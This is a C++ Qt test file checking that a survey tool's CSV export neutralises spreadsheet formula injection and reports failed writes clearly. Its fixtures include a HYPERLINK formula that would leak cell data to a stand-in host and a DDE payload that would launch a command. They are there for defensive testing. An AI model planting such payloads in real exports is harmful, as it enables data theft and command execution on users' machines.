// Issue 15: `export-data` and files from strangers.
//
// Formula-safe CSV: an answer such as "=HYPERLINK(…)" must reach a spreadsheet as text, never as
// a live formula. The expected bytes follow OWASP's advice on CSV injection (a "'" before a cell
// that starts with =, +, -, @, tab or CR; https://owasp.org/www-community/attacks/CSV_Injection),
// written by hand; "-3" and "-2,5" are numbers and stay as they are, and so does a lone "-" (the
// demo's open answers hold three, and Excel shows a lone "-" as text). The .sav file, read back
// with our StatReader, keeps every text unchanged.
//
// A failed write names its reason: the export runs as a child process under a file size limit
// (RLIMIT_FSIZE, SIGXFSZ ignored), so its writes stop part-way with EFBIG as they would with
// ENOSPC on a full disk; the message must carry the system's text for it, not "Unknown error".

#include "../common/SondoProcess.h"
#include "export/ResponseExporter.h"
#include "import/sources/StatReader.h"
#include "model/Project.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QtTest>

#include <cerrno>
#include <csignal>
#include <sys/resource.h>

using namespace sondo;

namespace {

/** One open-text question, one choice question whose option and text start like formulas. */
Project formulaProject() {
    Project p;
    p.survey.title = QStringLiteral("Formule");
    Question text;
    text.id = QStringLiteral("Q1");
    text.code = QStringLiteral("commento");
    text.text = QStringLiteral("Commento");
    text.type = QuestionType::Text;
    Question choice;
    choice.id = QStringLiteral("Q2");
    choice.code = QStringLiteral("dove");
    choice.text = QStringLiteral("=1+1 dove lavora?");
    choice.type = QuestionType::Single;
    choice.options = {QStringLiteral("@casa"), QStringLiteral("In ufficio")};
    Question number;
    number.id = QStringLiteral("Q3");
    number.code = QStringLiteral("saldo");
    number.text = QStringLiteral("Saldo");
    number.type = QuestionType::Numeric;
    p.survey.questions = {text, choice, number};

    const QStringList answers = {
        QStringLiteral("=HYPERLINK(\"http://x.example/?q=\"&A1,\"Clicca\")"),
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("@SUM(1)"),
        QStringLiteral("+SUM(1,2)"),
        QStringLiteral("-3"),
        QStringLiteral("-2,5"),
        QStringLiteral("\tcon tab"),
        QStringLiteral("\rcon CR"),
        QStringLiteral("- un elenco"),
        QStringLiteral("+39 02 1234567"),
        QStringLiteral("Bene = ottimo"),
        QStringLiteral("-"),
        QString(),
    };
    ResponseMatrix& r = p.responses;
    r.respondentCount = int(answers.size());
    r.weights.assign(size_t(answers.size()), 1.0);
    r.columns.resize(3);
    for (int i = 0; i < answers.size(); ++i) {
        r.respondentIds.append(i == 0 ? QStringLiteral("=1") : QString::number(i + 1));
        r.columns[0].texts.append(answers[i]);
        r.columns[1].codes.push_back(i % 3);
        r.columns[2].values.push_back(i == 0 ? -1250.5 : double(i));
    }
    return p;
}

QByteArray readAll(const QString& path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

} // namespace

class TestExportSafety : public QObject {
    Q_OBJECT

private:
    QTemporaryDir m_dir;

private slots:
    void csvCellsNeverStartAFormula() {
        const Project p = formulaProject();
        const QString file = m_dir.filePath(QStringLiteral("formule.csv"));
        const auto written = ResponseExporter::write(file, p.survey, p.responses);
        QVERIFY2(written.ok(), qPrintable(written.error().toString()));
        const QByteArray expected =
            "\xEF\xBB\xBF"
            "respondent_id,Commento,'=1+1 dove lavora?,Saldo\r\n"
            "'=1,\"'=HYPERLINK(\"\"http://x.example/?q=\"\"&A1,\"\"Clicca\"\")\",,-1250.5\r\n"
            "2,'=cmd|' /C calc'!A0,'@casa,1\r\n"
            "3,'@SUM(1),In ufficio,2\r\n"
            "4,\"'+SUM(1,2)\",,3\r\n"
            "5,-3,'@casa,4\r\n"
            "6,\"-2,5\",In ufficio,5\r\n"
            "7,'\tcon tab,,6\r\n"
            "8,\"'\rcon CR\",'@casa,7\r\n"
            "9,'- un elenco,In ufficio,8\r\n"
            "10,'+39 02 1234567,,9\r\n"
            "11,Bene = ottimo,'@casa,10\r\n"
            "12,-,In ufficio,11\r\n"
            "13,,,12\r\n";
        QCOMPARE(readAll(file), expected);
    }

    void savKeepsTextsAsTheyAre() {
        const Project p = formulaProject();
        const QString file = m_dir.filePath(QStringLiteral("formule.sav"));
        const auto written = ResponseExporter::write(file, p.survey, p.responses);
        QVERIFY2(written.ok(), qPrintable(written.error().toString()));
        const auto table = StatReader::read(file);
        QVERIFY2(table.ok(), qPrintable(table.error().toString()));
        const RawTable& t = table.value();
        QCOMPARE(t.cell(0, 2), QStringLiteral("=1+1 dove lavora?"));
        QCOMPARE(t.cell(1, 0), QStringLiteral("=1"));
        for (int r = 0; r < p.responses.respondentCount; ++r)
            QCOMPARE(t.cell(r + 1, 1), p.responses.columns[0].texts[r]);
        QCOMPARE(t.cell(2, 2), QStringLiteral("@casa"));
    }

    void helpSaysSo() {
        const auto run =
            sondo::test::runSondo({QStringLiteral("export-data"), QStringLiteral("--help")});
        QCOMPARE(run.exitCode, 0);
        QVERIFY2(run.out.contains(QStringLiteral("=, +, -, @")), qPrintable(run.out));
    }

    void failedWriteSaysWhy_data() {
        QTest::addColumn<QString>("name");
        QTest::newRow("csv") << QStringLiteral("limited.csv");
        QTest::newRow("sav") << QStringLiteral("limited.sav");
    }
    void failedWriteSaysWhy() {
        QFETCH(QString, name);
        const QString demo =
            QStringLiteral(SONDO_SOURCE_DIR "/resources/demo/remote_working_contact_center.csv");
        const QString folder = m_dir.filePath(QStringLiteral("limited"));
        QVERIFY(QDir().mkpath(folder));
        const QString target = QDir(folder).filePath(name);
        QProcess process;
        // The demo's export is about 100 KB: the limit stops it part-way through a write.
        process.setChildProcessModifier([] {
            const rlimit limit{20000, 20000};
            ::setrlimit(RLIMIT_FSIZE, &limit);
            ::signal(SIGXFSZ, SIG_IGN);
        });
        process.start(QStringLiteral(SONDO_EXECUTABLE),
                      {QStringLiteral("export-data"), demo, QStringLiteral("-o"), target});
        QVERIFY(process.waitForFinished(120000));
        const QString err = QString::fromUtf8(process.readAllStandardError());
        QCOMPARE(process.exitStatus(), QProcess::NormalExit);
        QCOMPARE(process.exitCode(), 2);
        QVERIFY2(err.contains(QStringLiteral("cannot write the file: ") + qt_error_string(EFBIG)),
                 qPrintable(err));
        QVERIFY2(!err.contains(QStringLiteral("Unknown error")), qPrintable(err));
        // Nothing is left behind: no target, no temporary file beside it.
        QCOMPARE(QDir(folder).entryList(QDir::Files | QDir::Hidden), QStringList());
    }
};

QTEST_GUILESS_MAIN(TestExportSafety)
#include "tst_exportsafety.moc"
